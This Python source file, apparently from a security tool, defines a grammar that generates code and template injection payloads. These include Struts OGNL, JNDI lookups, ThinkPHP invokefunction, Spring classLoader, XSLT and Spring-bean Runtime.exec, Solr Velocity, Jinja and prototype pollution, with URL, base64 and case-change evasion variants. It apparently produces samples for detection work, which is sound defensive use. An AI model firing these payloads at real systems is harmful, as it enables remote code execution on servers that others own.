"""Code and template injection in every language: the grammar over `code_php`, `code_java` and `code_script`."""

from threatclip.pairs.grammar import code_java, code_php, code_script
from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("php", weight=8, places=PARAM, family="PHP"),
    Start("php_evaded", weight=1, places=PARAM, family="PHP"),
    Start("php_header", weight=1, places=("header", "cookie"), family="PHP"),
    Start("php_name", weight=0.5, places=("name",), family="PHP"),
    Start("php_body", weight=1, places=("binary",), family="PHP"),
    Start("php_form", weight=1, places=("formbody",), family="PHP"),
    Start("php_tail", weight=1, places=("tail",), family="PHP"),
    Start("java", weight=9, places=PARAM, family="Java"),
    Start("java_evaded", weight=1, places=PARAM, family="Java"),
    Start("java_header", weight=3, places=("header", "cookie"), family="Java"),
    Start("java_name", weight=0.5, places=("name",), family="Java"),
    Start("java_body", weight=0.5, places=("binary",), family="Java"),
    Start("java_form", weight=1, places=("formbody",), family="Java"),
    Start("java_json", weight=1.5, places=("jsonbody",), family="Java"),
    Start("java_xml", weight=1, places=("xml",), family="Java"),
    Start("java_tail", weight=1.5, places=("tail",), family="Java"),
    Start("python_code", weight=4, places=PARAM, family="Python"),
    Start("python_json", weight=0.5, places=("jsonbody",), family="Python"),
    Start("python_tail", weight=0.3, places=("tail",), family="Python"),
    Start("js_code", weight=4, places=PARAM, family="JavaScript"),
    Start("js_name", weight=0.5, places=("name",), family="JavaScript"),
    Start("js_json", weight=1, places=("jsonbody",), family="JavaScript"),
    Start("ruby_code", weight=1.5, places=PARAM, family="Ruby"),
    Start("perl", weight=0.7, places=PARAM, family="Perl"),
    Start("dotnet", weight=1, places=PARAM, family=".NET"),
    Start("mathprobe", weight=1.5, places=PARAM),
    Start("other_code", weight=1.5, places=PARAM),
    Start("any_evaded", weight=1, places=PARAM),
)

TEXT = r"""
any := *8 «php» ¦ *8 «java» ¦ *8 «script_code»
python_code := *7 «jinja» ¦ *4 «python» ¦ {{«int»*«int»}}
js_code := *5 «node» ¦ *2 «proto» ¦ *3 «handle» ¦ ${«int»*«int»}
ruby_code := *2 «ruby» ¦ *2 «erb»
other_code := *3 «twig» ¦ *2 «smarty» ¦ «lua» ¦ *2 «ssi» ¦ «coldfusion» ¦ «go_tpl»
php_evaded := *2 «php|urlsome» ¦ «php|url» ¦ «php|urlall» ¦ «php|b64» ¦ «php|case» ¦ «php|slashx» ¦ «php|url2»
  ¦ «php|ent»
java_evaded := *2 «java|urlsome» ¦ «java|url» ¦ «java|urlall» ¦ «java|slashu» ¦ «java|b64» ¦ «ognl|url»
  ¦ @2021 «jndi|url» ¦ @2021 «jndi|b64» ¦ «java|url2» ¦ «java|case»
any_evaded := «any|urlsome» ¦ «any|url» ¦ «any|b64» ¦ «any|case» ¦ «any|ent» ¦ «any|url2» ¦ «script_code|urlall»
php_header := *2 «php» ¦ <?php «php_stmt»?> ¦ Mozilla/5.0 <?=«php_expr»?> ¦ Mozilla/5.0 <?php «php_stmt» ?> ¦ «php_stmt»
  ¦ «ssi»
java_header := @2021 *5 «jndi» ¦ *3 «ognl» ¦ «java» ¦ %{(#_='multipart/form-data').«ognl_body»} ¦ «spel» ¦ «spel»
  ¦ «groovy»
php_name := $_«php_super»['«ab»'] ¦ ${@«php_call»} ¦ «word»[#«=post_render~markup~type»]
java_name := ${«java_code»} ¦ {{«int»*«int»}} ¦ @2022 class.module.classLoader.«name» ¦ ('#_memberAccess')(«ab»)
  ¦ «word»['system']('«unix_bin»') ¦ (#context["xwork.MethodAccessor.denyMethodExecution"]=new+java.lang.Boolean(false))
  ¦ username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("«java_cmd»")]
js_name := __proto__[«proto_key»] ¦ constructor[prototype][«proto_key»] ¦ __proto__.«proto_key»
php_body := <?php «php_stmt» ?> ¦ <?php «php_stmt»«nl»«php_stmt» ?> ¦ <?=«php_expr»?> ¦ <?php«nl»«php_stmt»
java_body := «java» ¦ «groovy» ¦ «velocity» ¦ «rhino» ¦ «java_code» ¦ «freemarker»
php_form := «php_method» ¦ «=code~eval~script~expression~template~content~cmd~data»=«php|plus»
  ¦ «word»=«php|plus»&«word»=«rand»
java_form := «classloader» ¦ script=«groovy|plus» ¦ «=script~expression~template~content~username~data»=«java|plus»
  ¦ «word»=«java|plus»&«word»=«rand»
java_json := {"script":"«groovy|js»","type":"groovy"} ¦ {"«name»":"«java|js»"} ¦ {"«name»":{"«name»":"«java|js»"}}
  ¦ @2022 {"id":"«rand»","filters":[{"name":"AddResponseHeader","args":{"name":"«coined|cap»","value":"#{«exec|js»}"}}],"uri":"http://«zone»"}
  ¦ {"expression":"«spel|js»","«name»":«int»}
  ¦ {"query":"«word»","scriptLanguage":"javascript","script":"«rhino_code|js»"}
  ¦ {"type":"index","spec":{"parser":{"type":"javascript","function":"function(){«rhino_code|js»}"},"":{"enabled":true}}}
  ¦ @2021 {"«name»":"«jndi|js»"} ¦ {"params":["«java|js»"],"method":"«word»","id":«int»}
python_json := {"template":"«jinja|js»","data":{}} ¦ {"name":"«rand»","code":"«pycode|js»","language":"python"}
  ¦ {"«name»":"«python_code|js»"}
js_json := {"__proto__":{"«proto_key»":«proto_val»},"«name»":"«rand»"} ¦ {"«name»":"«js_code|js»"}
  ¦ {"«name»":{"«name»":"«node|js»"}}
java_xml := <?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="«ab»" select="rt:exec(rt:getRuntime(),'«java_cmd»')"/></xsl:template></xsl:stylesheet>
  ¦ <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function('«php_exec»','«unix_info»')"/></xsl:template></xsl:stylesheet>
  ¦ @2021 <?xml version="1.0"?><«$r:word»><«$n:name»>«jndi»</«$n»></«$r»>
  ¦ <beans xmlns="http://www.springframework.org/schema/beans"><bean id="«ab»" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>«unix_bin»</value></list></constructor-arg></bean></beans>
  ¦ <?xml version="1.0"?><methodCall><methodName>«word».«word»</methodName><params><param><value><string>«php_break|html»«php_stmt|html»//</string></value></param></params></methodCall>
  ¦ <entry><«$n:name»>${«exec»}</«$n»></entry>
php_tail := /«word»/{${«php_call»}}
  ¦ /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=«php_func»&vars[1][]=«rand»
  ¦ /?«php_config|plus» ¦ /«word».php?«php_config|plus» ¦ /«=index~home~public»/«=~index»/name/${@«php_call»}
java_tail := /${«ognl_body|url»}/ ¦ /%24%7B«ognl_body|url»%7D/«word».action ¦ /$%7B«int»*«int»%7D/«word».action
  ¦ @2021 /«jndi|url» ¦ /«word»/${«int»*«int»} ¦ /;/__${«exec|url»}__::.x ¦ /«word»/__%24%7B«exec|url»%7D__%3A%3A.x
  ¦ /«word».action?redirect:${«ognl_exec|url»} ¦ /«word».action?method:«ognl_exec|url»
  ¦ /«word»/%25{«ognl_exec|url»}.action ¦ /struts/«word»?debug=command&expression=«ognl_exec|url»
  ¦ /solr/«word»/select?q=1&wt=velocity&v.template=custom&v.template.custom=«velocity|url»
python_tail := /«word»/{{«int»*«int»}} ¦ /«word»/«script_code|url»
"""  # noqa: E501

TEXTS = (code_php.TEXT, code_java.TEXT, code_script.TEXT, TEXT)
